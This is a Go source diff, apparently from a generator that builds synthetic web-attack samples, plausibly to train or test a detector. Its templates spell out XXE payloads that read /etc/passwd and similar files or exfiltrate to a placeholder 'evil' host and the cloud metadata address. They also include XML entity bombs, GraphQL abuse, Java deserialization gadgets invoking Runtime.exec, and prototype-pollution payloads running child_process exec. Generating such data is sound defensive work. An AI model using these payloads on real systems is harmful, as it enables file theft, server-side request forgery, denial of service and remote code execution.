@@ -8,7 +8,7 @@ import (
 
 // raw is a family that puts JSON of its own, not a string, where its spots say.
 func raw(name, class string, at []string, templates ...string) family {
-	return family{name: name, class: class, build: func(g *gen, f *family) Sample {
+	return family{name: name, class: class, build: func(g *gen) Sample {
 		text := g.say(pick(g, templates))
 		return g.fill(g.spot(pick(g, at)), leaf{value: text, json: text})
 	}}
@@ -24,7 +24,7 @@ func attackNoSQL() []family {
 	}
 	// operator is an attack whose mark is the field's name: the value in question is the whole of name and value.
 	operator := func(name, suffix string, say ...string) family {
-		return family{name: "nosqli/" + name, class: "nosqli", build: func(g *gen, f *family) Sample {
+		return family{name: "nosqli/" + name, class: "nosqli", build: func(g *gen) Sample {
 			sp := g.spot(pick(g, brackets(suffix)))
 			s := g.fill(sp, leaf{value: g.say(pick(g, say))})
 			s.Value = sp.key + "=" + s.Value
@@ -48,14 +48,14 @@ func attackNoSQL() []family {
 
 func attackEntities() []family {
 	docs := func(name string, templates ...string) family {
-		return family{name: "xxe/" + name, class: "xxe", twist: "none", build: func(g *gen, f *family) Sample {
+		return family{name: "xxe/" + name, class: "xxe", twist: "none", build: func(g *gen) Sample {
 			return g.carriesXML(g.say(pick(g, templates)))
 		}}
 	}
 	return []family{
-		docs("file", "<?xml version=\"1.0\"?><!DOCTYPE ‹letters› [<!ENTITY ‹x|xxe|e1› SYSTEM \"file:///‹etc/passwd|etc/hostname|c:/windows/win.ini|proc/self/environ›\">]><order><name>‹noun›</name><note>&‹x|xxe|e1›;</note></order>", "<!DOCTYPE r [\n<!ELEMENT r ANY >\n<!ENTITY ‹letters› SYSTEM 'php://filter/read=convert.base64-encode/resource=index.php'>\n]><r>‹noun›</r>", "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE a [<!ENTITY b PUBLIC \"-//x//y\" \"file:///etc/‹shadow|issue|hosts›\">]><a><b>‹name›</b><c>&b;</c></a>"),
-		docs("remote", "<!DOCTYPE ‹letters› SYSTEM \"http://‹evil›/‹letters›.dtd\"><‹letters›>‹noun›</‹letters›>", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY r SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><d><title>&r;</title></d>", "<!DOCTYPE d [<!ENTITY f SYSTEM \"ftp://‹evil›/‹letters›\">]><d>‹sentence›&f;</d>"),
-		docs("parameter", "<!DOCTYPE ‹letters› [<!ENTITY % ‹p|dtd|ext› SYSTEM \"http://‹evil›/x.dtd\"> %‹p|dtd|ext›;]><‹letters›/>", "<!DOCTYPE m [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://‹evil›/?%f;'>\">%e;%s;]><m>‹noun›</m>", "<!DOCTYPE a [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"> %local;]><a>‹num›</a>"),
+		docs("file", "<?xml version=\"1.0\"?><!DOCTYPE ‹letters› [<!ENTITY xxe SYSTEM \"file:///‹etc/passwd|etc/hostname|c:/windows/win.ini|proc/self/environ›\">]><order><name>‹noun›</name><note>&xxe;</note></order>", "<!DOCTYPE r [\n<!ELEMENT r ANY >\n<!ENTITY src SYSTEM 'php://filter/read=convert.base64-encode/resource=‹index|config|‹letters››.php'>\n]><r>‹noun› &src;</r>", "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE a [<!ENTITY b PUBLIC \"-//x//y\" \"file:///etc/‹shadow|issue|hosts›\">]><a><b>‹name›</b><c>&b;</c></a>"),
+		docs("remote", "<!DOCTYPE note SYSTEM \"http://‹evil›/‹letters›.dtd\"><note>‹noun›</note>", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY r SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><d><title>&r;</title></d>", "<!DOCTYPE d [<!ENTITY f SYSTEM \"ftp://‹evil›/‹letters›\">]><d>‹sentence›&f;</d>"),
+		docs("parameter", "<!DOCTYPE ‹letters› [<!ENTITY % ext SYSTEM \"http://‹evil›/x.dtd\"> %ext;]><‹letters›/>", "<!DOCTYPE m [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://‹evil›/?%f;'>\">%e;%s;]><m>‹noun›</m>", "<!DOCTYPE a [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"> %local;]><a>‹num›</a>"),
 		docs("entity-bomb", "<!DOCTYPE z [<!ENTITY a \"‹letters›\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;\">]><z>&e;</z>", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY x0 \"‹longtext›\"><!ENTITY x1 \"&x0;&x0;&x0;&x0;\"><!ENTITY x2 \"&x1;&x1;&x1;&x1;\">]><q><n>‹num›</n>&x2;&x2;&x2;</q>"),
 		docs("xinclude-xslt", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/><n>‹noun›</n></foo>", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/‹passwd|group›')\"/></xsl:template></xsl:stylesheet>", "<svg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><text>‹noun›</text><xi:include href=\"http://‹evil›/‹letters›\"/></svg>"),
 		docs("svg-and-soap", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"‹num›\"><text y=\"9\">&x;</text></svg>", "<soap:Body><find><!DOCTYPE d [<!ENTITY % x SYSTEM \"http://‹evil›/\"> %x;]><![CDATA[‹noun›]]></find></soap:Body>", "<!DOCTYPE rss [<!ENTITY t SYSTEM \"expect://id\">]><rss version=\"2.0\"><channel><title>&t;</title></channel></rss>"),
@@ -74,7 +74,7 @@ func (g *gen) carriesXML(text string) Sample {
 
 func attackGraphs() []family {
 	doc := func(name string, write func(g *gen) string) family {
-		return family{name: "graphql/" + name, class: "graphql", twist: "none", build: func(g *gen, f *family) Sample {
+		return family{name: "graphql/" + name, class: "graphql", twist: "none", build: func(g *gen) Sample {
 			return g.fill(g.spot("gqldoc POST ‹/graphql|/api/graphql|/-/graphql› -"), leaf{value: write(g)})
 		}}
 	}
@@ -111,7 +111,7 @@ func attackGraphs() []family {
 		doc("field-repeat", func(g *gen) string {
 			return "query { viewer { " + strings.Repeat(g.slot("en-noun")+" ", g.between(400, 2500)) + "} }"
 		}),
-		{name: "graphql/batch", class: "graphql", twist: "none", build: func(g *gen, f *family) Sample {
+		{name: "graphql/batch", class: "graphql", twist: "none", build: func(g *gen) Sample {
 			var items []string
 			doc := g.say("query { ‹login|otp|coupon›(code: \"‹upper›\") { ok } }")
 			for range g.between(25, 200) {
@@ -127,7 +127,7 @@ func attackGraphs() []family {
 
 func attackBombs() []family {
 	bomb := func(name string, write func(g *gen) string) family {
-		return family{name: "jsonbomb/" + name, class: "jsonbomb", twist: "none", build: func(g *gen, f *family) Sample {
+		return family{name: "jsonbomb/" + name, class: "jsonbomb", twist: "none", build: func(g *gen) Sample {
 			value := write(g)
 			at := pick(g, []string{"json POST ~ ‹data|filter|payload›", "rawjson POST ~ -", "json PUT ~ items[].‹meta|attrs›", "rpc POST /rpc args"})
 			return g.fill(g.spot(at), leaf{value: value, json: value})
@@ -172,8 +172,8 @@ func attackObjects() []family {
 	packed := func(name string, write func(g *gen) []byte) family {
 		f := serial(name)
 		f.twist = "none"
-		f.build = func(g *gen, f *family) Sample {
-			return g.request(f, pick(g, f.at), pick(g, []*base64.Encoding{base64.StdEncoding, base64.StdEncoding, base64.URLEncoding}).EncodeToString(write(g)))
+		f.build = func(g *gen) Sample {
+			return g.request(pick(g, f.at), pick(g, []*base64.Encoding{base64.StdEncoding, base64.StdEncoding, base64.URLEncoding}).EncodeToString(write(g)))
 		}
 		return f
 	}
@@ -196,7 +196,7 @@ func attackObjects() []family {
 		serial("xstream", "<java.util.PriorityQueue serialization='custom'><unserializable-parents/><javax.naming.ldap.Rdn_-RdnEntry><type>‹letters›</type></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue>", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>‹letters›</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>‹unixcmd›</string></void></object></java>"),
 		raw("prototype/proto-object", "prototype", protoSpots, `{"__proto__":{"‹isAdmin|role|admin|polluted›":‹true|1|"‹letters›"›}}`, `{"‹en-noun›":"‹en-noun›","__proto__":{"‹letters›":"‹letters›"}}`, `{"a":{"__proto__":{"shell":"/bin/sh","NODE_OPTIONS":"--require ‹letters›"}}}`, `{"__proto__":["‹letters›"],"n":‹num1›}`),
 		raw("prototype/constructor-object", "prototype", protoSpots, `{"constructor":{"prototype":{"‹isAdmin|debug|‹letters››":true}}}`, `{"‹en-noun›":{"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require('child_process').exec('id');s"}}}}`, `{"constructor":{"prototype":{"‹letters›":"‹letters›","length":‹num1›}},"v":"‹ver›"}`),
-		{name: "prototype/bracket-params", class: "prototype", twist: "none", build: func(g *gen, f *family) Sample {
+		{name: "prototype/bracket-params", class: "prototype", twist: "none", build: func(g *gen) Sample {
 			sp := g.spot(pick(g, []string{"query GET ~ __proto__[‹isAdmin|role|‹letters››]", "query GET ~ constructor[prototype][‹letters›]", "form POST ~ user[__proto__][‹admin|‹letters››]", "form POST ~ __proto__.‹letters›", "multipart POST ~ opts[constructor][prototype][‹letters›]"}))
 			s := g.fill(sp, leaf{value: g.say("‹true|1|admin|‹letters››")})
 			s.Value = sp.key + "=" + s.Value
